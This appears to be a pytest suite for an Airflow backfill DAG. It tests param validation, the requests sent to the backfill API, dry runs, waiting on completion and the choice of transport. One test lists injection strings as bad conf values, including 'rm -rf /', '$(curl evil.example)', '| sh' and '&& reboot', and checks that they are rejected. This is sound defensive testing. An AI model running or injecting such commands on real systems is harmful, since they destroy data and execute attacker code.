"""The timestream_backfill DAG under dag.test(): params refuse bad confs, good ones send one exact request."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pipeline_config import names
from tests.dags.backfill_support import (
    API_CONN_ID,
    EXPECTED_BODY,
    EXPORT_DAG_IDS,
    HOURS,
    PROBE_DAG_ID,
    SETTINGS_VARIABLE_ENV,
    VALID_CONF,
    RecordingApi,
    api_connection_json,
    recording_api,
    runtime_settings_json,
)
from timestream_pipeline.backfill_dag import build_backfill_dag

pytestmark = pytest.mark.usefixtures("airflow_db")
DAG_FILE = Path(__file__).resolve().parents[2] / "dags" / "timestream_backfill.py"


@pytest.fixture
def api(monkeypatch: pytest.MonkeyPatch) -> Iterator[RecordingApi]:
    """The recording API, wired in as the DAG's target through settings and an HTTP connection."""
    with recording_api() as running:
        monkeypatch.setenv(SETTINGS_VARIABLE_ENV, runtime_settings_json(airflow_api_conn_id=API_CONN_ID))
        monkeypatch.setenv(f"AIRFLOW_CONN_{API_CONN_ID.upper()}", api_connection_json(running.url, token="t"))
        yield running


def run_dag(conf: dict[str, Any]) -> dict[str, str]:
    """Trigger the DAG through dag.test and return each task's final state."""
    dag_run = build_backfill_dag(EXPORT_DAG_IDS).test(run_conf=conf)
    return {ti.task_id: str(ti.state) for ti in dag_run.get_task_instances()}


def test_the_dag_file_parses_with_a_param_per_field() -> None:
    """The real DAG file imports cleanly and offers one param per conf field, dag_id limited to exports."""
    from airflow.dag_processing.dagbag import DagBag

    # GIVEN the DAG file WHEN parsed
    bag = DagBag(dag_folder=str(DAG_FILE))
    # THEN no import error, the expected params and a schedule-less DAG
    assert bag.import_errors == {}
    dag = bag.dags[names.BACKFILL_DAG_ID]
    assert dag.schedule is None
    assert set(dag.params) == {
        "dag_id",
        "from_date",
        "to_date",
        "reprocess_behavior",
        "max_active_runs",
        "dry_run",
        "wait_for_completion",
    }
    assert all(
        i.startswith(names.EXPORT_DAG_ID_PREFIX) for i in dag.params.get_param("dag_id").schema["enum"]
    )


@pytest.mark.parametrize(
    "conf",
    [
        {**VALID_CONF, "dag_id": "timestream_export_backfill_probe; rm -rf /"},
        {**VALID_CONF, "from_date": "$(curl evil.example)"},
        {**VALID_CONF, "to_date": "2026-11-01T05:00:00Z\nairflow users create"},
        {**VALID_CONF, "reprocess_behavior": "failed | sh"},
        {**VALID_CONF, "max_active_runs": "4 && reboot"},
        {**VALID_CONF, "dry_run": "`id`"},
        {key: value for key, value in VALID_CONF.items() if key != "from_date"},
    ],
    ids=["dag_id", "from_date", "to_date", "reprocess", "max_runs", "dry_run", "missing"],
)
def test_airflow_params_refuse_a_bad_conf_before_the_run_exists(api: RecordingApi, conf: dict) -> None:
    """Airflow's param validation stops the trigger itself: no run, no task, no request."""
    from airflow.exceptions import ParamValidationError

    # GIVEN a conf breaking the JSON Schema WHEN the DAG is triggered THEN Airflow refuses it
    with pytest.raises(ParamValidationError):
        build_backfill_dag(EXPORT_DAG_IDS).test(run_conf=conf)
    assert api.requests == []


@pytest.mark.parametrize(
    "conf",
    [
        {**VALID_CONF, "command": "dags backfill -s 2021-09-10 -e 2021-10-10 x"},
        {**VALID_CONF, "to_date": "2026-11-01T00:00:00Z"},
        {**VALID_CONF, "to_date": "2026-12-31T00:00:00Z"},
    ],
    ids=["extra_key", "equal_dates", "span_over_limit"],
)
def test_rules_beyond_the_schema_fail_the_first_task_without_a_request(api: RecordingApi, conf: dict) -> None:
    """Extra keys, from >= to and the span limit pass the params but stop in validate_conf."""
    # GIVEN a conf the schema allows but the rules do not WHEN the DAG runs
    states = run_dag(conf)
    # THEN validate_conf fails, nothing downstream runs, no request is sent
    assert states["validate_conf"] == "failed"
    assert states["create_backfill"] == "upstream_failed"
    assert api.requests == []


def test_a_valid_conf_sends_exactly_one_backfill_request(api: RecordingApi) -> None:
    """A valid conf: one POST /api/v2/backfills with the expected body, then the runs are read back."""
    # GIVEN six queued backfill runs on the API side
    api.runs = [{"dag_id": PROBE_DAG_ID, "logical_date": hour, "state": "queued"} for hour in HOURS]
    # WHEN the DAG runs with a valid conf
    states = run_dag(VALID_CONF)
    # THEN every task succeeded and the one create request is exact
    assert set(states.values()) == {"success"}
    create, runs = api.api_requests
    assert (create.method, create.path, create.body) == ("POST", "/api/v2/backfills", EXPECTED_BODY)
    assert (runs.method, runs.path) == ("GET", "/api/v2/dags/~/dagRuns")


def test_waiting_fails_the_dag_when_a_backfill_run_failed(api: RecordingApi) -> None:
    """With wait_for_completion, a completed backfill with a failed run fails the DAG run."""
    # GIVEN a backfill the API reports completed, with one failed run
    api.backfill = {"id": 7, "completed_at": "2026-11-02T00:00:00Z"}
    api.runs = [{"dag_id": PROBE_DAG_ID, "logical_date": hour, "state": "success"} for hour in HOURS[:5]]
    api.runs.append({"dag_id": PROBE_DAG_ID, "logical_date": HOURS[5], "state": "failed"})
    # WHEN the DAG runs and waits
    states = run_dag({**VALID_CONF, "wait_for_completion": True})
    # THEN the backfill was created and the wait task failed on the failed run
    assert states == {"validate_conf": "success", "create_backfill": "success", "wait_for_backfill": "failed"}
    assert [r.path for r in api.api_requests].count("/api/v2/backfills/7") == 1


def test_a_dry_run_creates_nothing(api: RecordingApi) -> None:
    """A dry run posts only to /backfills/dry_run."""
    # GIVEN a dry-run conf WHEN the DAG runs THEN the only request is the dry run
    states = run_dag({**VALID_CONF, "dry_run": True})
    assert set(states.values()) == {"success"}
    assert [(r.method, r.path) for r in api.api_requests] == [("POST", "/api/v2/backfills/dry_run")]


def test_without_a_target_in_the_settings_the_run_fails_with_a_message(
    api: RecordingApi, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither an MWAA environment nor an API connection: create_backfill fails, nothing is sent."""
    # GIVEN settings naming no target
    monkeypatch.setenv(SETTINGS_VARIABLE_ENV, runtime_settings_json())
    # WHEN the DAG runs THEN create_backfill fails and no request leaves
    states = run_dag(VALID_CONF)
    assert states["create_backfill"] == "failed"
    assert api.requests == []


def test_an_mwaa_environment_in_the_settings_selects_invoke_rest_api(monkeypatch: pytest.MonkeyPatch) -> None:
    """The environment comes from the settings: with mwaa_environment_name set, MWAA is the transport."""
    from timestream_pipeline.backfill_dag import transport_from_settings
    from timestream_pipeline.backfill_transport import MwaaTransport

    # GIVEN settings naming an MWAA environment (and an API connection, which MWAA takes precedence over)
    monkeypatch.setenv(
        SETTINGS_VARIABLE_ENV,
        runtime_settings_json(mwaa_environment_name="pipeline-airflow", airflow_api_conn_id=API_CONN_ID),
    )
    # WHEN the transport is chosen THEN it is MWAA, for that environment
    transport = transport_from_settings()
    assert isinstance(transport, MwaaTransport) and transport.environment_name == "pipeline-airflow"
